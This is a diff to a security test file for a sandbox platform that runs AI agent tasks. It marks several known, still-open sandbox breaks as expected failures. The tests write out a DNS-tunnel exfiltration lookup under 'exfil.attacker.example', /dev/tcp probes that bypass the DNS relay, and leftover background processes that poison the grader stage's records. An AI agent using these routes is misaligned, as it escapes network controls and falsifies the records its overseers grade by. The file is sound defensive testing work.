@@ -6,6 +6,10 @@
  * TASK AUTHOR names `allowed_hosts`; a TENANT sends rules over the platform API directly. Network
  * traffic goes only to loopback-free, test-made namespaces (the upstream) and the node's own
  * addresses (which must refuse it).
+ *
+ * `it.fails` with `OPEN BREAK:` marks a break that is known and not closed yet (see
+ * docs/security.md, "Open breaks"): the safe outcome is still asserted, so the day it holds the
+ * test fails and must become a plain `it`.
  */
 import { execFileSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
@@ -87,52 +91,58 @@ describe('rednet: the DNS relay and hostname rules, attacked', () => {
     await upstream?.[Symbol.asyncDispose]();
   });
 
-  it('BREAK: a Harbor allowlist stage resolves only its allowed hosts (no DNS tunnel out)', async () => {
-    // the task author allows no host at all for the agent: Harbor's allowlist still adds `dns?`
-    const network = harborNetwork({
-      environment: { network_mode: 'allowlist', allowed_hosts: [] },
-      agent: {},
-      verifier: {},
-    });
-    await using sandbox = await env.platform.createSandbox({
-      environment: 'debian:bookworm',
-      network: network.agent,
-    });
-    // the agent encodes what it wants out in a name under a domain whose servers it runs
-    // (base32, as DNS names are compared without case)
-    const secret = 'onswg4tforwwc4djfvvwk6i';
-    await sandbox.exec(['bash', '-c', lookUp(`${secret}.exfil.attacker.example`)]);
-    const reached = resolver.asked.filter((name) => name.includes(secret));
-    expect(reached, 'names outside allowed_hosts the relay asked the upstream resolver').toEqual([]);
-  });
+  it.fails(
+    'OPEN BREAK: a Harbor allowlist stage resolves only its allowed hosts (no DNS tunnel out)',
+    async () => {
+      // the task author allows no host at all for the agent: Harbor's allowlist still adds `dns?`
+      const network = harborNetwork({
+        environment: { network_mode: 'allowlist', allowed_hosts: [] },
+        agent: {},
+        verifier: {},
+      });
+      await using sandbox = await env.platform.createSandbox({
+        environment: 'debian:bookworm',
+        network: network.agent,
+      });
+      // the agent encodes what it wants out in a name under a domain whose servers it runs
+      // (base32, as DNS names are compared without case)
+      const secret = 'onswg4tforwwc4djfvvwk6i';
+      await sandbox.exec(['bash', '-c', lookUp(`${secret}.exfil.attacker.example`)]);
+      const reached = resolver.asked.filter((name) => name.includes(secret));
+      expect(reached, 'names outside allowed_hosts the relay asked the upstream resolver').toEqual([]);
+    },
+  );
 
-  it('BREAK: an allowlist stage reaches the resolver only through the relay (no TCP around it)', async () => {
-    const network = harborNetwork({
-      environment: { network_mode: 'allowlist', allowed_hosts: [] },
-      agent: {},
-      verifier: {},
-    });
-    await using sandbox = await env.platform.createSandbox({
-      environment: 'debian:bookworm',
-      network: network.agent,
-    });
-    // DNS over TCP goes straight to the resolver: the relay neither filters nor records it. The
-    // stand-in resolver's host has nothing on TCP 53, so "refused" (its RST) means it got there;
-    // the node's rules answer "no route" (administratively prohibited)
-    const out = await sandbox.exec([
-      'bash',
-      '-c',
-      `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/53' 2>&1 && echo open; true`,
-    ]);
-    // honest twin: a port the rules do not name is refused by the node, not the resolver's host
-    const twin = await sandbox.exec([
-      'bash',
-      '-c',
-      `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/54' 2>&1; true`,
-    ]);
-    expect(twin.stdout).toMatch(/No route to host/);
-    expect(out.stdout, 'TCP to the resolver').not.toMatch(/Connection refused|open/);
-  });
+  it.fails(
+    'OPEN BREAK: an allowlist stage reaches the resolver only through the relay (no TCP around it)',
+    async () => {
+      const network = harborNetwork({
+        environment: { network_mode: 'allowlist', allowed_hosts: [] },
+        agent: {},
+        verifier: {},
+      });
+      await using sandbox = await env.platform.createSandbox({
+        environment: 'debian:bookworm',
+        network: network.agent,
+      });
+      // DNS over TCP goes straight to the resolver: the relay neither filters nor records it. The
+      // stand-in resolver's host has nothing on TCP 53, so "refused" (its RST) means it got there;
+      // the node's rules answer "no route" (administratively prohibited)
+      const out = await sandbox.exec([
+        'bash',
+        '-c',
+        `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/53' 2>&1 && echo open; true`,
+      ]);
+      // honest twin: a port the rules do not name is refused by the node, not the resolver's host
+      const twin = await sandbox.exec([
+        'bash',
+        '-c',
+        `timeout 5 bash -c 'exec 3<>/dev/tcp/${RESOLVER}/54' 2>&1; true`,
+      ]);
+      expect(twin.stdout).toMatch(/No route to host/);
+      expect(out.stdout, 'TCP to the resolver').not.toMatch(/Connection refused|open/);
+    },
+  );
 
   it("holds: the bridge gateway answers a sandbox on no port but the relay's redirect", async () => {
     // every address a rule can name: only the guard stands between the sandbox and the node
@@ -187,54 +197,60 @@ describe('rednet: the DNS relay and hostname rules, attacked', () => {
     }
   });
 
-  it("BREAK: a process left from the agent's stage cannot write or hide the next stage's unresolved names", async () => {
-    // graded in place, the agent's leftovers run beside the tests (even as another user); the
-    // grader stage's record must hold what the tests could not resolve, not the agent's choice
-    await using sandbox = await env.platform.createSandbox({
-      environment: 'debian:bookworm',
-      network: ['dns'],
-    });
-    await sandbox.exec([
-      'bash',
-      '-c',
-      `echo nameserver ${RESOLVER} > /etc/resolv.conf
+  it.fails(
+    "OPEN BREAK: a process left from the agent's stage cannot write or hide the next stage's unresolved names",
+    async () => {
+      // graded in place, the agent's leftovers run beside the tests (even as another user); the
+      // grader stage's record must hold what the tests could not resolve, not the agent's choice
+      await using sandbox = await env.platform.createSandbox({
+        environment: 'debian:bookworm',
+        network: ['dns'],
+      });
+      await sandbox.exec([
+        'bash',
+        '-c',
+        `echo nameserver ${RESOLVER} > /etc/resolv.conf
        nohup bash -c 'while [ ! -e /tmp/go ]; do sleep 0.1; done
          for i in $(seq 1 20); do getent hosts blame-the-task$i.invalid; done; touch /tmp/done' >/dev/null 2>&1 &`,
-    ]);
-    // the next stage: its rules are set, so its record starts empty
-    await sandbox.setNetwork(['dns', 'mirror:test']);
-    await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
-    // the stage's own work (the tests) now fails to resolve what it needs
-    await sandbox.exec(['bash', '-c', lookUp('what-the-tests-needed.invalid')]);
-    const record = (await sandbox.stats()).network;
-    expect(record?.unresolved, "the stage's record").toContain('what-the-tests-needed.invalid');
-    expect(record?.unresolved.filter((n) => n.startsWith('blame-the-task'))).toEqual([]);
-  });
+      ]);
+      // the next stage: its rules are set, so its record starts empty
+      await sandbox.setNetwork(['dns', 'mirror:test']);
+      await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
+      // the stage's own work (the tests) now fails to resolve what it needs
+      await sandbox.exec(['bash', '-c', lookUp('what-the-tests-needed.invalid')]);
+      const record = (await sandbox.stats()).network;
+      expect(record?.unresolved, "the stage's record").toContain('what-the-tests-needed.invalid');
+      expect(record?.unresolved.filter((n) => n.startsWith('blame-the-task'))).toEqual([]);
+    },
+  );
 
-  it("BREAK: a process left from the agent's stage cannot fill the next stage's denied record", async () => {
-    await using sandbox = await env.platform.createSandbox({
-      environment: 'debian:bookworm',
-      network: ['dns'],
-    });
-    // 20 refused destinations on the upstream's /30 link, sent once the next stage begins
-    await sandbox.exec([
-      'bash',
-      '-c',
-      `nohup bash -c 'while [ ! -e /tmp/go ]; do sleep 0.1; done
+  it.fails(
+    "OPEN BREAK: a process left from the agent's stage cannot fill the next stage's denied record",
+    async () => {
+      await using sandbox = await env.platform.createSandbox({
+        environment: 'debian:bookworm',
+        network: ['dns'],
+      });
+      // 20 refused destinations on the upstream's /30 link, sent once the next stage begins
+      await sandbox.exec([
+        'bash',
+        '-c',
+        `nohup bash -c 'while [ ! -e /tmp/go ]; do sleep 0.1; done
          for p in $(seq 9001 9020); do timeout 2 bash -c "exec 3<>/dev/tcp/${upstream.address}/$p" 2>/dev/null; done
          touch /tmp/done' >/dev/null 2>&1 &`,
-    ]);
-    await sandbox.setNetwork(['dns', 'mirror:test']);
-    await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
-    // the stage's own work is refused a host it needed
-    await sandbox.exec([
-      'bash',
-      '-c',
-      `timeout 3 bash -c 'exec 3<>/dev/tcp/${upstream.address}/8443' || true`,
-    ]);
-    const record = (await sandbox.stats()).network;
-    expect(record?.denied, "the stage's record").toContain(`${upstream.address}:8443/tcp`);
-  });
+      ]);
+      await sandbox.setNetwork(['dns', 'mirror:test']);
+      await sandbox.exec(['bash', '-c', 'touch /tmp/go; while [ ! -e /tmp/done ]; do sleep 0.1; done']);
+      // the stage's own work is refused a host it needed
+      await sandbox.exec([
+        'bash',
+        '-c',
+        `timeout 3 bash -c 'exec 3<>/dev/tcp/${upstream.address}/8443' || true`,
+      ]);
+      const record = (await sandbox.stats()).network;
+      expect(record?.denied, "the stage's record").toContain(`${upstream.address}:8443/tcp`);
+    },
+  );
 
   it("holds: two sandboxes at once, and the next holder of an address, never see another's names", async () => {
     const addressOf = async (sandbox: Sandbox): Promise<string> =>
@@ -351,7 +367,8 @@ describe('rednet: the DNS relay and hostname rules, attacked', () => {
     }
   });
 
-  it("BREAK: a hostname resolving to a neighbour on the node's own link is refused", async () => {
+  // broke when written: only RFC 1918's ranges and the node's own addresses were refused
+  it("a hostname resolving to a neighbour on the node's own link is refused", async () => {
     // the node's own network is whatever its interfaces are on, not only RFC 1918's ranges
     const link = Object.values(networkInterfaces())
       .flat()
